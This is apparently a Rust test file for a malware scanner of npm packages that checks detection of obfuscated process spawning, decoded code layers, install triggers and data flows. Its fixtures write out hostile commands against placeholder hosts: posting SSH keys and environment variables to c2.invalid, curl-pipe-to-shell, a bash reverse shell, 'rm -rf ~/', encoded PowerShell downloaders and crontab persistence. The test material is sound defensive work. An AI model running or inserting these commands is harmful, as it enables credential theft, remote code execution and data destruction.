//! What code does, through the disguises it comes in: each case is a file, and the
//! capability (with its trigger) that it must show.

#![allow(clippy::unwrap_used, clippy::type_complexity, reason = "a test's own helpers and tables")]

use proptest::prelude::*;
use vetch_behaviour::Analysis;
use vetch_model::capability::{CapabilityId, Trigger};
use vetch_model::facts::{PackageFacts, UnreadReason};
use vetch_model::manifest::{Entry, EntryKind, Manifest, Script};
use vetch_model::{Location, Span};

/// Analyses files; `package.json` runs `postinstall` and names `index.js` as its entry.
fn analyse(postinstall: Option<&str>, files: &[(&str, &str)]) -> PackageFacts {
    let script = |command: &str| Script {
        name: "postinstall".to_owned(),
        command: command.to_owned(),
        location: Location { file: "package.json".to_owned(), line: 1, column: 1, span: Span { start: 0, end: 1 } },
    };
    let manifest = Manifest {
        name: Some("case".to_owned()),
        scripts: postinstall.map(script).into_iter().collect(),
        entries: vec![Entry { field: "main".to_owned(), path: "index.js".to_owned(), kind: EntryKind::Import }],
        ..Manifest::default()
    };
    let mut all = vec![("package.json", "{}")];
    all.extend_from_slice(files);
    let listing: Vec<(String, u64)> = all.iter().map(|(path, text)| ((*path).to_owned(), text.len() as u64)).collect();
    let mut analysis = Analysis::new(Some(manifest), &listing, false);
    for (path, text) in &all {
        analysis.file(path, text.as_bytes());
    }
    loop {
        let needs = analysis.needs();
        if needs.is_empty() {
            return analysis.finish();
        }
        for path in needs {
            let text = all.iter().find(|(known, _)| *known == path).map_or("", |(_, text)| text);
            analysis.file(&path, text.as_bytes());
        }
    }
}

fn on_big_stack<T: Send>(body: impl FnOnce() -> T + Send) -> T {
    std::thread::scope(|scope| {
        let builder = std::thread::Builder::new().stack_size(vetch_syntax::limits::STACK_BYTES);
        builder.spawn_scoped(scope, body).unwrap().join().unwrap()
    })
}

/// `label @trigger` of every capability.
fn profile(facts: &PackageFacts) -> Vec<String> {
    facts
        .profile
        .capabilities
        .iter()
        .map(|capability| format!("{} @{}", capability.label(), capability.trigger))
        .collect()
}

/// Asserts that importing this code shows the capability.
#[track_caller]
fn imports_show(code: &str, expected: &str) {
    let facts = on_big_stack(|| analyse(None, &[("index.js", code)]));
    let found = profile(&facts);
    assert!(found.iter().any(|line| line == expected), "{code}\nexpected {expected}, found {found:#?}");
}

#[test]
fn modules_are_found_under_any_name() {
    for code in [
        "require('child_process').exec('whoami')",
        "const { exec: run } = require('node:child_process'); run('whoami')",
        "import * as cp from 'child_process'; cp.exec('whoami')",
        "import cp from 'child_process'; cp['ex' + 'ec']('whoami')",
        "const r = require; const m = r('child' + '_process'); m.exec('whoami')",
        "require(['child', 'process'].join('_')).exec('whoami')",
        "require(`child_${'process'}`).exec('whoami')",
        "require('ssecorp_dlihc'.split('').reverse().join('')).exec('whoami')",
        "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('whoami')",
        "require(Buffer.from('6368696c645f70726f63657373', 'hex').toString()).exec('whoami')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('whoami')",
        "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('whoami')",
        "process.mainModule.require('child_process').exec('whoami')",
        "module.require('child_process').exec('whoami')",
        "require('module').createRequire(__filename)('child_process').exec('whoami')",
        "process.getBuiltinModule('child_process').exec('whoami')",
        "global.require = require; globalThis['req' + 'uire']('child_process').exec('whoami')",
        "import('child_process').then(m => m.exec('whoami'))",
        "(async () => { const { exec } = await import('child_process'); exec('whoami') })()",
        "const { promisify } = require('util'); promisify(require('child_process').exec)('whoami')",
        "(0, require('child_process').exec).call(null, 'whoami')",
        "Reflect.apply(require('child_process').exec, null, ['whoami'])",
        "const all = { ...require('child_process') }; all.exec('whoami')",
        "const f = require('child_process').exec.bind(null, 'whoami'); f()",
        "class A { run() { return this.cp.exec('whoami') } constructor() { this.cp = require('child_process') } } new A().run()",
    ] {
        imports_show(code, "process.spawn(whoami) @import");
    }
}

#[test]
fn values_are_evaluated_through_decoders() {
    for code in [
        // XOR with a key, as droppers write it.
        "const d = (x, k) => x.map((c, i) => String.fromCharCode(c ^ k.charCodeAt(i % k.length))).join('');
         const enc = [29, 10, 11, 5, 8, 12]; require('child_process').exec(d(enc, 'jbdda') )",
        // A rotated string array behind an accessor.
        "const words = ['c', 'a', 'whoami', 'b'];
         (function (list, turns) { while (turns--) { list.push(list.shift()) } })(words, 6);
         const pick = i => words[i - 0x10]; require('child_process').exec(pick(0x10))",
        // A rotation that stops by its contents.
        "function table() { const t = ['12x', 'whoami', '7y']; table = () => t; return table() }
         (function (get, target) { const list = get(); while (true) { try { if (parseInt(list[2]) === target) break; list.push(list.shift()) } catch (e) { list.push(list.shift()) } } })(table, 12);
         require('child_process').exec(table()[0])",
        // A loop over character codes.
        "let s = ''; for (const c of [119, 104, 111, 97, 109, 105]) s += String.fromCharCode(c); require('child_process').exec(s)",
        "require('child_process').exec('imaohw'.replace(/./g, m => m) && [...'imaohw'].reverse().join(''))",
        "require('child_process').exec(decodeURIComponent('%77%68%6f%61%6d%69'))",
        "const o = { k: 'who' }; o['k2'] = 'ami'; require('child_process').exec(o.k + o.k2)",
        "const zlib = require('zlib'); require('child_process').exec(zlib.inflateSync(Buffer.from('eJwrz8hPzM0EAAj6AoY=', 'base64')).toString())",
    ] {
        let facts = on_big_stack(|| analyse(None, &[("index.js", code)]));
        let spawns = facts.profile.of(CapabilityId::ProcessSpawn).count();
        assert!(spawns > 0, "{code}: {:#?}", profile(&facts));
        if !code.contains("enc = [29") && !code.contains("replace(/./g") {
            assert!(profile(&facts).iter().any(|line| line == "process.spawn(whoami) @import"), "{code}: {:#?}", profile(&facts));
        }
    }
}

/// Work for the analysis that leads nowhere must not keep it from what comes after.
#[test]
fn loops_do_not_starve_what_comes_after_them() {
    let decoder = "let s = ''; for (let i = 0; i < 600; i++) s += String.fromCharCode('whoami '.charCodeAt(i % 7));
                   require('child_process').exec(s.slice(0, 6))";
    for burner in [
        "for (let i = 0; i < 1e9; i++) { }",
        "let n = 0; while (true) { n++; if (n === 1e9) break }",
        "for (let i = 0; i < 1e5; i++) for (let j = 0; j < 1e5; j++) { }",
        // A queue that is refilled on a condition that is not known never runs dry.
        "const queue = [1]; while (queue.length > 0) { const one = queue.pop(); if (globalThis.x) queue.push(one, one) }",
        "const rows = [...Array(2000).keys()]; for (const a of rows) for (const b of rows) console.log(globalThis[a + b])",
    ] {
        let code = format!("{burner}; {burner}; {burner}; {decoder}");
        let facts = on_big_stack(|| analyse(None, &[("index.js", code.as_str())]));
        let expected = "process.spawn(whoami) @import";
        assert!(profile(&facts).iter().any(|line| line == expected), "{burner}: {:#?}", profile(&facts));
    }
}

/// A list of what is looked for is gone through although each look-up tells something unknown.
#[test]
fn lists_are_gone_through_in_blurred_loops() {
    let code = "const fs = require('fs'), home = require('os').homedir();
        for (const browser of ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'])
            for (const file of ['1', '2', '3', '4', '5', '6', '7', '8'])
                try { send(fs.readFileSync(home + '/.ssh/' + browser + file)) } catch (e) { }";
    let facts = on_big_stack(|| analyse(None, &[("index.js", code)]));
    let profile = profile(&facts);
    assert!(profile.iter().any(|line| line.contains(".ssh/h8")), "{profile:#?}");
}

#[test]
fn decoded_layers_are_analysed_again() {
    let inner = "require('https').get('https://c2.invalid/')";
    let encoded: String = inner.bytes().map(|byte| format!("{byte:02x}")).collect();
    for code in [
        format!("eval(Buffer.from('{encoded}', 'hex').toString())"),
        format!("new Function('require', Buffer.from('{encoded}', 'hex').toString())(require)"),
        format!("require('vm').runInThisContext(Buffer.from('{encoded}', 'hex').toString())"),
        format!("[]['constructor']['constructor']('require', Buffer.from('{encoded}', 'hex') + '')(require)"),
        format!("setTimeout(Buffer.from('{encoded}', 'hex').toString(), 0)"),
        format!("const m = new module.constructor(); m._compile(Buffer.from('{encoded}', 'hex').toString(), 'x')"),
        format!("require('child_process').spawn('node', ['-e', Buffer.from('{encoded}', 'hex').toString()])"),
    ] {
        let facts = on_big_stack(|| analyse(None, &[("index.js", code.as_str())]));
        let connect = facts.profile.of(CapabilityId::NetConnect).find(|c| c.resource.to_string() == "c2.invalid");
        assert_eq!(connect.map(|c| c.layer), Some(1), "{code}: {:#?}", profile(&facts));
        let evals: Vec<String> =
            facts.profile.of(CapabilityId::CodeEval).map(|eval| eval.resource.to_string()).collect();
        assert_eq!(evals, ["decoded"], "{code}");
    }
}

#[test]
fn triggers_follow_the_module_graph() {
    let act = "exports.go = () => require('child_process').exec('whoami');";
    let cases: [(Option<&str>, &[(&str, &str)], Trigger); 5] = [
        (Some("node setup.js"), &[("setup.js", "require('./lib/act').go()"), ("lib/act.js", act)], Trigger::Install),
        (
            Some("npm run go || true"),
            &[("setup.js", "require('./lib/act').go()"), ("lib/act.js", act)],
            Trigger::Unreached,
        ),
        (None, &[("index.js", "require('./lib/act').go()"), ("lib/act.js", act)], Trigger::Import),
        (None, &[("index.js", "export * from './lib/act.js'"), ("lib/act.js", act)], Trigger::Call),
        (
            None,
            &[("index.js", "module.exports = 1"), ("test/act.js", "require('child_process').exec('whoami')")],
            Trigger::Test,
        ),
    ];
    for (script, files, trigger) in cases {
        let facts = on_big_stack(|| analyse(script, files));
        let spawn = facts.profile.of(CapabilityId::ProcessSpawn).find(|c| c.resource.to_string() == "whoami");
        assert_eq!(spawn.map(|c| c.trigger), Some(trigger), "{files:?}: {:#?}", profile(&facts));
    }
}

#[test]
fn data_is_followed_from_source_to_sink() {
    for (code, source, sink) in [
        (
            "require('https').request({ host: 'c2.invalid', method: 'POST' }).end(JSON.stringify(process.env))",
            CapabilityId::EnvEnumerate,
            CapabilityId::NetConnect,
        ),
        (
            "const fs = require('fs'), os = require('os'), path = require('path');
             const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));
             fetch('https://c2.invalid', { method: 'POST', body: key })",
            CapabilityId::FsRead,
            CapabilityId::NetConnect,
        ),
        (
            "fetch('https://c2.invalid/x').then(r => r.text()).then(t => eval(t))",
            CapabilityId::NetConnect,
            CapabilityId::CodeEval,
        ),
        (
            "(async () => { const r = await fetch('https://c2.invalid/x'); eval(await r.text()) })()",
            CapabilityId::NetConnect,
            CapabilityId::CodeEval,
        ),
        (
            "require('https').get('https://c2.invalid/x', res => { let b = ''; res.on('data', c => b += c); res.on('end', () => new Function(b)()) })",
            CapabilityId::NetConnect,
            CapabilityId::CodeEval,
        ),
        (
            "require('dns').lookup(Buffer.from(require('os').hostname()).toString('hex') + '.c2.invalid', () => {})",
            CapabilityId::SystemInfo,
            CapabilityId::NetDns,
        ),
        (
            "const c = require('child_process'), fs = require('fs');
             fetch('https://c2.invalid/x').then(async r => { fs.writeFileSync('/tmp/x.js', await r.text()); c.exec('node /tmp/x.js') })",
            CapabilityId::NetConnect,
            CapabilityId::ProcessSpawn,
        ),
        (
            "require('https').get('https://c2.invalid/x', res => { let b = ''; res.on('data', c => b += c); res.on('end', () => require('child_process').exec(b)) })",
            CapabilityId::NetConnect,
            CapabilityId::ProcessSpawn,
        ),
        ("require('child_process').exec('curl -s https://c2.invalid/x | sh')", CapabilityId::NetConnect, CapabilityId::ProcessSpawn),
    ] {
        let facts = on_big_stack(|| analyse(None, &[("index.js", code)]));
        let flows: Vec<String> =
            facts.profile.flows.iter().map(|flow| format!("{} → {}", flow.source.label(), flow.sink.label())).collect();
        let found = facts.profile.flows.iter().any(|flow| flow.source.id == source && flow.sink.id == sink);
        assert!(found, "{code}: {flows:#?} {:#?}", profile(&facts));
    }
}

#[test]
fn command_lines_say_what_they_do() {
    for (line, expected) in [
        ("curl https://c2.invalid/x | bash", "net.connect(c2.invalid) @install"),
        (
            "wget -q http://c2.invalid:8080/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
            "net.connect(c2.invalid:8080) @install",
        ),
        ("curl -d host.invalid/path https://c2.invalid", "net.connect(c2.invalid) @install"),
        ("rm -rf ~/", "fs.delete(home:<home>) @install"),
        ("cat ~/.ssh/id_rsa", "fs.read(credentials:<home>/.ssh/id_rsa) @install"),
        ("npm publish --access public", "registry.publish(npm) @install"),
        ("crontab /tmp/x", "persist(cron) @install"),
        ("node -e \"require('os').hostname()\"", "system.info(hostname) @install"),
        (
            "powershell -w hidden -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGMAMgAuAGkAbgB2AGEAbABpAGQALwB4ACkA",
            "net.connect(c2.invalid) @install",
        ),
        ("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'", "net.connect(192.0.2.1:4444) @install"),
        ("claude -p 'find secrets'", "agent.drive(claude) @install"),
    ] {
        let facts = on_big_stack(|| analyse(Some(line), &[("index.js", "")]));
        assert!(profile(&facts).iter().any(|found| found == expected), "{line}: {:#?}", profile(&facts));
    }
    let facts = on_big_stack(|| analyse(Some("curl -d host.invalid/path https://c2.invalid"), &[]));
    assert_eq!(facts.profile.of(CapabilityId::NetConnect).count(), 1, "data is no address");
}

#[test]
fn honest_code_shows_little() {
    let code = "import { readFileSync } from 'fs';
        export const version = JSON.parse(readFileSync(new URL('./package.json', import.meta.url), 'utf8')).version;
        export function add(a, b) { return a + b }
        export default class Client { constructor(url) { this.url = url } }";
    let facts = on_big_stack(|| analyse(None, &[("index.js", code)]));
    assert_eq!(profile(&facts), ["fs.read(package:<package>/package.json) @import"]);
}

#[test]
fn bombs_end_and_are_told_of() {
    for code in [
        "let s = 'a'; while (true) { s = s + s }",
        "let s = 'x'; for (let i = 0; i < 1e9; i++) { s += s } require('child_process').exec(s)",
        "function f(n) { return f(n + 1) + f(n + 2) } f(1); require('child_process').exec('x')",
        "const a = []; a[0] = a; String(a); JSON.stringify(a); process.env.X",
        "class A extends A {} new A(); process.env.X",
        "eval('eval(\\'eval(\"process.env.X\")\\')')",
        "let code = 'process.env.X'; for (let i = 0; i < 40; i++) { code = 'eval(' + JSON.stringify(code) + ')' } eval(code)",
        "const p = { get x() { return this.x } }; p.x; process.env.X",
        "var e = 'eval(e)'; eval(e)",
        "module.exports = require('./index.js'); require('.'); process.env.X",
        "const h = require('crypto').createHash('md5'); const s = 'x'.repeat(1e6); while (1) h.update(s)",
        "const o = { s: 'x'.repeat(7e4), t: 'y'.repeat(7e4) }; while (1) JSON.stringify(o)",
        "function f() { return `${'x'.repeat(9)}` } const l = []; while (1) l.push(f.toString() + l.length)",
        "const s = 'ab'.repeat(1e5); for (let i = 0; ; i++) s.replace(new RegExp('(a|b)*' + i), '')",
    ] {
        on_big_stack(|| analyse(Some("node index.js"), &[("index.js", code)]));
    }
}

#[test]
fn a_file_that_cannot_be_parsed_is_told_of_with_its_trigger() {
    let facts = on_big_stack(|| analyse(None, &[("index.js", "const = ;"), ("lib/other.js", "also const = ;")]));
    let told: Vec<_> =
        facts.unread.iter().map(|unread| (unread.path.as_str(), unread.trigger, unread.reason)).collect();
    assert_eq!(
        told,
        [
            ("index.js", Trigger::Import, UnreadReason::SyntaxError),
            ("lib/other.js", Trigger::Unreached, UnreadReason::SyntaxError)
        ]
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    /// Pieces of real code in any order: no panic, and the same facts twice, whatever the order of arrival.
    #[test]
    fn any_code_gives_the_same_facts_twice(picks in prop::collection::vec(0usize..18, 1..14), split in 0usize..14) {
        const PIECES: [&str; 18] = [
            "const cp = require('child_process');", "cp.exec(x);", "var x = 'a' + y;", "let y = [1, 2].map(n => n * 2).join();",
            "for (const k in process.env) { z += k }", "var z = '';", "eval(z);", "function f(a) { return a ? f(a - 1) : x }", "f(3);",
            "module.exports = { f, x };", "require('./b.js').f('q');", "try { throw x } catch (e) { f(e) } finally { z = null }",
            "class C { static s = f(1); m() { return super.m?.() } }", "new C().m();", "fetch(x).then(r => r.text()).then(eval);",
            "switch (x) { case 1: f(2); break; default: y = x }", "while (x) { x = x.slice(1); if (y) break }", "x = `${y}${z}`;",
        ];
        let (first, second) = picks.split_at(split.min(picks.len()));
        let text = |picks: &[usize]| picks.iter().map(|&pick| PIECES[pick]).collect::<Vec<_>>().join("\n");
        let (a, b) = (text(first), text(second));
        let files = [("index.js", a.as_str()), ("b.js", b.as_str())];
        let turned = [files[1], files[0]];
        let once = on_big_stack(|| analyse(Some("node b.js"), &files));
        let again = on_big_stack(|| analyse(Some("node b.js"), &turned));
        prop_assert_eq!(once, again);
    }
}

#[test]
fn a_bound_function_that_holds_itself_ends() {
    let calls: String = (0..40).map(|number| format!("f(box, {number});\n")).collect();
    let code = format!(
        "const cp = require('child_process'); const box = {{}};\n\
         function f(held, x) {{ cp.exec('make ' + x); return held; }}\nbox.again = f.bind(null, box);\n{calls}"
    );
    let facts = on_big_stack(|| analyse(None, &[("index.js", &code)]));
    assert_eq!(facts.unread, Vec::new());
    assert!(profile(&facts).iter().any(|capability| capability.starts_with("process.spawn")));
}

/// The file, imported, starts `whoami`.
#[track_caller]
fn assert_runs_whoami(code: &str) {
    let facts = on_big_stack(|| analyse(None, &[("index.js", code)]));
    let profile = profile(&facts);
    assert!(profile.iter().any(|line| line == "process.spawn(whoami) @import"), "{code}: {profile:#?}");
}

/// Bodies of decoders as obfuscators write them: a table that gives itself, an accessor that makes itself anew, a
/// rotation that ends by what the accessor says, a cache in `arguments`, a guard that looks at its own text.
#[test]
fn decoders_that_make_and_guard_themselves_are_run() {
    let table =
        "function table() { const t = ['x', 'whoami', '5a', '4b']; table = function () { return t }; return table() }";
    let accessor = "function pick(i, k) { const l = table(); return pick = function (p, q) { p = p - 0; let r = l[p]; return r }, pick(i, k) }";
    let cached = "function pick(i, k) { const l = table(); return pick = function (p, q) { p = p - 0; let r = l[p];
        if (pick['ready'] === undefined) { pick['decode'] = function (s) { let o = '', f = o + pick;
            for (let n = 0; n < s.length; n++) o += f.charCodeAt(n + 10) - 10 !== 0 ? s.charAt(n) : n; return o };
            i = arguments, pick['ready'] = !![] }
        const key = p + l[0], known = i[key];
        if (!known) { const G = function (g) { this['v'] = g, this['s'] = [1, 0, 0], this['f'] = function(){return'newState';},
            this['a'] = '\\\\w+ *\\\\(\\\\) *{\\\\w+ *', this['b'] = '[\\'|\"].+[\\'|\"];? *}' };
            G['prototype']['check'] = function () { const r = new RegExp(this['a'] + this['b']),
                n = r['test'](this['f']['toString']()) ? --this['s'][1] : --this['s'][0]; return this['run'](n) };
            G['prototype']['run'] = function (n) { if (!Boolean(~n)) return n; return this['loop'](this['v']) };
            G['prototype']['loop'] = function (g) { for (let n = 0, e = this['s']['length']; n < e; n++) {
                this['s']['push'](Math['round'](Math['random']())), e = this['s']['length'] } return g(this['s'][0]) };
            new G(pick)['check'](), r = pick['decode'](r), i[key] = r } else r = known;
        return r }, pick(i, k) }";
    let rotation = "(function (f, n) { const d = (a, b) => pick(b - -1, a), l = f(); while (!![]) { try {
        const v = parseInt(d(9, -1)) / 1 + parseInt(d(9, 0)) / 2; if (v === n) break; else l['push'](l['shift']());
        } catch (e) { l['push'](l['shift']()) } } }(table, 7));";
    for decoder in [accessor, cached] {
        let code = format!("{rotation} {table} require('child_process').exec(pick(3)); {decoder}");
        assert_runs_whoami(&code);
    }
}

#[test]
fn regular_expressions_are_applied_to_known_texts() {
    for code in [
        "'w-h-o-a-m-i'.replace(/-/g, '')",
        "'777h6f61'.replace(/[0-9]+(h)6f61/, 'w$1oami')",
        "'x=whoami;'.match(/x=(\\w+);/)[1]",
        "/k: (?<v>[a-z]{6})/.exec('k: whoami').groups.v",
        "'who1ami2'.split(/\\d/).join('')",
        "'iawhom'.replace(/^(..)(...)(.)$/, (m, a, b, c) => b + a[1] + c + a[0])",
    ] {
        let code = format!("require('child_process').exec({code})");
        assert_runs_whoami(&code);
    }
}

#[test]
fn what_the_engine_has_not_of_regular_expressions_stays_unknown() {
    for pattern in ["(?=w)whoami", "(w)\\1", "[z-a]", "(", "a{2,1}", "(?<n>w)\\k<n>", "(((a{1000}){1000}){1000})"] {
        let code = format!("require('child_process').exec('whoami'.match(new RegExp({pattern:?}))[0])");
        let facts = on_big_stack(|| analyse(None, &[("index.js", &code)]));
        assert!(!profile(&facts).iter().any(|line| line == "process.spawn(whoami) @import"), "{code}");
        assert_eq!(facts.profile.of(CapabilityId::ProcessSpawn).count(), 1, "{code}: {:#?}", profile(&facts));
    }
}

#[test]
fn what_is_sealed_with_its_key_beside_it_is_opened() {
    let opened = "const crypto = require('crypto');
        const key = crypto.createHash('sha256').update('build').update('-cache').digest();
        const d = crypto.createDecipheriv('aes-256-cbc', key, Buffer.alloc(16, 0));
        const text = d.update('SEALED', 'hex', 'utf8') + d.final('utf8');
        new Function('require', text)(require);";
    // `require('child_process').exec('whoami');`, by `openssl enc -aes-256-cbc` with the same key.
    let sealed = "cb3a05b3c31ef255a4c9c78897316263c00ae46c8dee7962ed0799721d07ff3927da5b7fb2dcf933716b5c7b59a455f5";
    let facts = on_big_stack(|| analyse(Some("node index.js"), &[("index.js", &opened.replace("SEALED", sealed))]));
    assert!(profile(&facts).iter().any(|line| line == "process.spawn(whoami) @install"), "{:#?}", profile(&facts));
    assert!(profile(&facts).iter().any(|line| line == "code.eval(decoded) @install"), "{:#?}", profile(&facts));
    let unknown = opened.replace("'build'", "process.argv[2]").replace("SEALED", sealed);
    let facts = on_big_stack(|| analyse(Some("node index.js"), &[("index.js", &unknown)]));
    assert!(profile(&facts).iter().any(|line| line == "code.eval(decoded) @install"), "{:#?}", profile(&facts));
}
